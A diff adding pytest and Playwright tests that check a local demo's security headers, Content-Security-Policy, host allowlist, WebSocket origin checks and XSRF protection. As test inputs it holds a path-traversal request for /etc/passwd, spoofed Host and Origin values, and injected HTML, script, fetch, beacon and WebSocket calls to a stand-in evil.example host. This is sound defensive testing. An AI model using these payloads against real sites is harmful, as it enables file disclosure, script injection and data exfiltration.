@@ -1,0 +1,304 @@
+"""What the running demo sends and refuses, over plain sockets and in a browser."""
+
+from __future__ import annotations
+
+import http.client
+import re
+import socket
+import sqlite3
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+from visiting import SLOW, Demo
+
+Open = Callable[..., Page]
+KEY = "dGhlIHNhbXBsZSBub25jZQ=="
+ROOT = Path(__file__).resolve().parents[2]
+PAGES = {
+    "": "Who answers",
+    "compare": "Votes on this fleet",
+    "explorer": "Whether its probabilities can be believed",
+    "lab": "Distill",
+    "benchmark": "How much beta matters",
+}
+
+
+def ask(demo: Demo, method: str, path: str, **headers: str) -> http.client.HTTPResponse:
+    """A request with just these headers; `_` in a name stands for `-`."""
+    connection = http.client.HTTPConnection("127.0.0.1", demo.port, timeout=30)
+    connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
+    for name, value in headers.items():
+        connection.putheader(name.replace("_", "-"), value)
+    connection.endheaders()
+    return connection.getresponse()
+
+
+def handshake(demo: Demo, host: str | None, origin: str | None) -> int:
+    """The status of a websocket's opening: 101 when it is taken."""
+    lines = [
+        *("GET /_stcore/stream HTTP/1.1", "Connection: Upgrade", "Upgrade: websocket"),
+        *("Sec-WebSocket-Version: 13", f"Sec-WebSocket-Key: {KEY}"),
+        *([f"Host: {host}"] if host is not None else []),
+        *([f"Origin: {origin}"] if origin is not None else []),
+    ]
+    with socket.create_connection(("127.0.0.1", demo.port), timeout=30) as connection:
+        connection.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
+        return int(connection.recv(100).split()[1])
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "status"),
+    [
+        ("GET", "/", 200),
+        ("GET", "/compare?q=Hello", 200),
+        ("HEAD", "/", 200),
+        ("GET", "/favicon.png", 200),
+        ("GET", "/static/nothing.js", 200),  # Streamlit's page, as for every path that it does not know
+        ("GET", "/_stcore/health", 200),
+        ("GET", "/_stcore/host-config", 200),
+        ("GET", "/media/nothing.png", 404),
+        ("PUT", "/_stcore/upload_file/session/file", 403),
+        ("DELETE", "/_stcore/upload_file/session/file", 403),
+        ("POST", "/_stcore/agent/interact", 403),
+        ("GET", "/..%2f..%2fetc/passwd", 400),
+    ],
+)
+def test_everything_is_sent_with_the_headers(server: Demo, method: str, path: str, status: int) -> None:
+    answer = ask(server, method, path, Host=f"localhost:{server.port}")
+    assert answer.status == status
+    assert answer.headers["Referrer-Policy"] == "no-referrer"
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+    assert answer.headers["X-DNS-Prefetch-Control"] == "off"
+    policy = answer.headers["Content-Security-Policy"]
+    for directive in ("default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'self'"):
+        assert f"{directive};" in f"{policy};"
+    assert "http:" not in re.sub(r"frame-ancestors [^;]*", "", policy)
+
+
+def test_a_module_of_the_page_is_sent_with_the_headers(server: Demo) -> None:
+    page = ask(server, "GET", "/", Host=f"localhost:{server.port}").read().decode()
+    found = re.search(r'src="\.(/static/js/[^"]+)"', page)
+    assert found is not None
+    answer = ask(server, "GET", found[1], Host=f"localhost:{server.port}")
+    assert answer.status == 200
+    assert "script-src 'self' 'sha256-" in answer.headers["Content-Security-Policy"]
+
+
+@pytest.mark.parametrize(
+    ("host", "status"),
+    [
+        ("localhost:{port}", 200),
+        ("LOCALHOST.:{port}", 200),
+        ("127.0.0.1:{port}", 200),
+        ("[::1]:{port}", 200),
+        ("localhost", 200),  # through a tunnel or a proxy, ports differ
+        ("localhost:1", 200),
+        ("friend.example", 200),  # --allow-host
+        (socket.gethostname(), 200),
+        ("evil.example:{port}", 403),
+        ("localhost.evil.example", 403),
+        ("friend.example.evil.example", 403),
+        ("192.0.2.1:{port}", 403),
+        ("[::2]:{port}", 403),
+        ("localhost:{port}@evil.example", 403),
+        ("", 403),
+    ],
+)
+def test_only_listed_hosts_are_answered(server: Demo, host: str, status: int) -> None:
+    host = host.format(port=server.port)
+    for path in ("/", "/_stcore/health"):
+        assert ask(server, "GET", path, Host=host).status == status
+    assert handshake(server, host, f"http://{host}") == (101 if status == 200 else 403)
+
+
+def test_a_refused_host_is_told_what_to_do(server: Demo) -> None:
+    answer = ask(server, "GET", "/", Host=f"my.example:{server.port}")
+    assert answer.status == 403
+    assert answer.headers["Content-Type"] == "text/plain; charset=utf-8"
+    assert "zooter demo --allow-host my.example\n" in answer.read().decode()
+
+
+@pytest.mark.parametrize(
+    ("host", "origin", "status"),
+    [
+        ("localhost:{port}", "http://localhost:{port}", 101),
+        ("LOCALHOST.:{port}", "http://LOCALHOST.:{port}", 101),
+        ("127.0.0.1:{port}", "http://127.0.0.1:{port}", 101),
+        ("[::1]:{port}", "http://[::1]:{port}", 101),
+        ("localhost", "http://localhost", 101),
+        ("friend.example", "https://friend.example", 101),  # behind a proxy that ends TLS
+        ("evil.example:{port}", "http://evil.example:{port}", 403),  # DNS rebinding
+        ("localhost:{port}", "http://evil.example:{port}", 403),
+        ("localhost:{port}", "http://localhost:1", 403),
+        ("localhost:{port}", "http://localhost", 403),
+        ("localhost:{port}", "http://127.0.0.1:{port}", 403),
+        ("localhost:{port}", "http://localhost:{port}.evil.example", 403),
+        ("localhost:{port}", "http://friend.example", 403),
+        ("localhost:{port}", "null", 403),
+        ("localhost:{port}", "", 403),
+        ("localhost:{port}", None, 403),
+        (None, None, 400),
+        (None, "http://localhost:{port}", 400),
+    ],
+)
+def test_only_the_demos_own_pages_open_its_websocket(
+    server: Demo, host: str | None, origin: str | None, status: int
+) -> None:
+    host = host.format(port=server.port) if host is not None else None
+    origin = origin.format(port=server.port) if origin is not None else None
+    assert handshake(server, host, origin) == status
+
+
+def test_an_upload_without_the_pages_token_is_refused(server: Demo) -> None:
+    """Though this demo's environment turns the protection off."""
+    own = {"Host": f"localhost:{server.port}", "Origin": f"http://localhost:{server.port}"}
+    answer = ask(server, "PUT", "/_stcore/upload_file/session/file", **own)
+    assert answer.status == 403
+    assert "XSRF" in answer.read().decode()
+    foreign = ask(server, "PUT", "/_stcore/upload_file/session/file", **own | {"Origin": "http://localhost:1"})
+    assert "own pages only" in foreign.read().decode()
+
+
+def test_other_origins_are_not_allowed_to_read(server: Demo) -> None:
+    """Though this demo's environment turns that protection off, too."""
+    answer = ask(server, "GET", "/_stcore/health", Host=f"localhost:{server.port}", Origin="http://evil.example")
+    assert answer.headers["Access-Control-Allow-Origin"] is None
+
+
+def test_a_demo_that_binds_every_address_answers_to_the_one_that_was_dialled(tmp_path: Path) -> None:
+    demo = Demo(tmp_path / "history.db", None, "--address", "0.0.0.0")
+    try:
+        for host, status in (("127.0.0.2", 200), ("127.0.0.3", 403), ("localhost", 200), ("evil.example", 403)):
+            connection = http.client.HTTPConnection("127.0.0.2", demo.port, timeout=30)
+            connection.request("GET", "/_stcore/health", headers={"Host": f"{host}:{demo.port}"})
+            assert connection.getresponse().status == status, host
+    finally:
+        demo.stop()
+    assert demo.process.returncode == 0
+
+
+# In the browser. `open_tab` fails on errors in the console, to which a violation of the policy belongs.
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_every_page_works_under_the_policy(open_tab: Open, demo: str, path: str) -> None:
+    page = open_tab(f"{demo}/{path}")
+    expect(page.get_by_text(PAGES[path]).first).to_be_visible(timeout=3 * SLOW)  # weights are converted at first
+    if path in ("explorer", "lab", "benchmark"):
+        expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible(timeout=SLOW)
+
+
+def test_the_lab_takes_an_upload_and_a_table_is_downloaded(open_tab: Open, demo: str) -> None:
+    page = open_tab(f"{demo}/lab")
+    expect(page.get_by_role("tab", name="Distill")).to_be_visible(timeout=3 * SLOW)
+    page.get_by_text("A score file", exact=False).first.click()
+    lines = "\n".join(f'{{"query": "{n}", "scores": {{"x": {n % 2}, "y": {n % 3}}}}}' for n in range(20))
+    page.locator('input[type="file"]').set_input_files(
+        {"name": "mine.jsonl", "mimeType": "application/jsonl", "buffer": lines.encode()}
+    )
+    expect(page.get_by_text("20 queries, 1 data set, 2 models")).to_be_visible(timeout=SLOW)
+    page.goto(f"{demo}/explorer")
+    with page.expect_download(timeout=SLOW) as started:
+        page.get_by_role("button", name="All tags as CSV").click(timeout=SLOW)
+    assert Path(started.value.path()).read_text().startswith("tag,queries")
+
+
+def test_what_slips_into_the_page_loads_nothing_and_runs_nothing(browser: Browser, server: Demo) -> None:
+    page = browser.new_page()
+    left: list[str] = []
+    page.route("http://evil.example/**", lambda route: (left.append(route.request.url), route.abort())[-1])
+    page.goto(server.address)
+    expect(page.get_by_text("Try one of these")).to_be_visible(timeout=SLOW)
+    stopped = page.evaluate(
+        """async () => {
+            const stopped = [];
+            document.addEventListener('securitypolicyviolation', event => stopped.push(event.effectiveDirective));
+            const slip = html => document.body.appendChild(document.createRange().createContextualFragment(html));
+            slip('<img src="http://evil.example/a.png">');
+            slip('<style>@import "http://evil.example/a.css"; body {background: url(http://evil.example/b.png)}</style>');
+            slip('<iframe src="http://evil.example/"></iframe><object data="http://evil.example/"></object>');
+            slip('<video src="http://evil.example/a.mp4"></video>');
+            slip('<script>window.ran = true</script><script src="http://evil.example/a.js"></script>');
+            slip('<form action="http://evil.example/"><button id="go"></button></form>');
+            document.getElementById('go').click();
+            await fetch('http://evil.example/').catch(() => {});
+            navigator.sendBeacon('http://evil.example/', 'a');
+            new WebSocket('ws://evil.example/').onerror = () => {};
+            await new Promise(done => setTimeout(done, 1000));
+            return [...new Set(stopped)].sort();
+        }"""
+    )
+    assert stopped == [
+        *("connect-src", "form-action", "frame-src", "img-src", "media-src", "object-src"),
+        *("script-src-elem", "style-src-elem"),
+    ]
+    assert left == []
+    assert page.evaluate("window.ran") is None
+    page.close()
+
+
+def test_only_a_site_that_is_named_shows_the_demo_in_a_frame(
+    browser: Browser, server: Demo, sites: tuple[str, str]
+) -> None:
+    friend, other = sites
+    page = browser.new_page()
+    page.goto(f"{friend}/?{server.address}/")
+    inside = page.frame_locator("iframe")
+    expect(inside.get_by_text("A small router reads your query")).to_be_visible(timeout=SLOW)
+    page.goto(f"{other}/?{server.address}/")
+    page.wait_for_timeout(3000)
+    expect(inside.get_by_text("A small router reads your query")).to_have_count(0)
+    assert not any("localhost" in frame.url for frame in page.frames[1:])
+    page.close()
+
+
+QUERY = "What is 1234 + 30?"
+LINK = "q=What+is+1234+%2B+30%3F"
+
+
+def test_a_link_to_the_chat_runs_nothing_until_it_is_sent(open_tab: Open, server: Demo) -> None:
+    page = open_tab(f"{server.address}/?{LINK}&mode=All+of+them")
+    box = page.get_by_test_id("stChatInputTextArea")
+    expect(box).to_have_value(QUERY, timeout=SLOW)
+    expect(page.get_by_text("Nothing has run yet")).to_contain_text("All of them")
+    expect(page.get_by_text("Who answers").first).to_be_visible(timeout=SLOW)
+    page.wait_for_timeout(3000)
+    expect(page.get_by_test_id("stChatMessage")).to_have_count(0)
+    page.reload()
+    expect(box).to_have_value(QUERY, timeout=SLOW)
+    assert not turns(server, QUERY)
+    box.press("Enter")
+    expect(page.get_by_role("button", name="Edit")).to_be_visible(timeout=SLOW)
+    expect(page.get_by_text("Nothing has run yet")).to_have_count(0)
+    assert "q=" not in page.url
+    assert turns(server, QUERY) == 1
+
+
+def turns(server: Demo, query: str) -> int:
+    """How many turns of the history have the query."""
+    if not server.history.exists():
+        return 0
+    with sqlite3.connect(server.history) as database:
+        return sum(query in row[0] for row in database.execute("SELECT record FROM turns"))
+
+
+def test_a_link_to_compare_runs_nothing_until_it_is_sent(open_tab: Open, demo: str) -> None:
+    page = open_tab(f"{demo}/compare?{LINK}&models=chat&models=math")
+    expect(page.get_by_label("Query")).to_have_value(QUERY, timeout=SLOW)
+    expect(page.get_by_text("Votes on this fleet")).to_be_visible(timeout=SLOW)
+    page.wait_for_timeout(3000)
+    expect(page.locator("h4")).to_have_count(0)
+    page.get_by_test_id("stFormSubmitButton").get_by_role("button").click()
+    expect(page.locator("h4")).to_have_count(2, timeout=SLOW)
+    expect(page.get_by_text("Reward of each response")).to_be_visible(timeout=SLOW)
+    assert "q=" not in page.url
+
+
+def test_a_link_to_the_explorer_routes_nothing_until_a_click(open_tab: Open, demo: str) -> None:
+    page = open_tab(f"{demo}/explorer?{LINK}")
+    expect(page.get_by_text("Nothing has run yet")).to_be_visible(timeout=SLOW)
+    expect(page.get_by_text("would answer")).to_have_count(0)
+    page.get_by_role("button", name="Route it").click()
+    expect(page.get_by_text("would answer")).to_be_visible(timeout=SLOW)
